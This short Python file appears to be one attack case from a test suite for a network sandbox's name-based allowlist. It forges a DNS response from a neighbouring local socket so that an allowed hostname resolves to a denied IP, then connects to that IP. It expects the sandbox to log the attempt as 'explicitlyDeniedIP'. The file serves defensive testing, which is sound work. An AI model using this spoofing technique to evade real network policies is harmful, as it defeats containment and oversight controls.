"""A forged answer from a neighbour
Asks for an allowed name from an unconnected socket and sends that socket an answer from another one of one's own.
policy: allowed-names
audit: explicitlyDeniedIP
proof: arrival
"""
import socket


def attack(at):
    packet = at.query(b"forged.good.test")
    answer = packet[:2] + b"\x85\x80\0\1\0\1\0\0\0\0" + packet[12:] + b"\xc0\x0c\0\1\0\1\0\0\1\0\0\4" + socket.inet_aton(at.FOE)
    asker, neighbour = at.udp(), at.udp()
    asker.bind(("127.0.0.1", 0))
    asker.sendto(packet, (at.RESOLVER, 53))
    try:
        neighbour.sendto(answer, asker.getsockname())
    except (IOError, OSError) as error:
        at.note(error)
    for _ in range(2):
        try:
            at.note(len(asker.recv(500)))
        except (IOError, OSError) as error:
            at.note(error)
    stream = at.tcp()
    stream.connect((at.FOE, at.PORT))
    return at.say(stream)
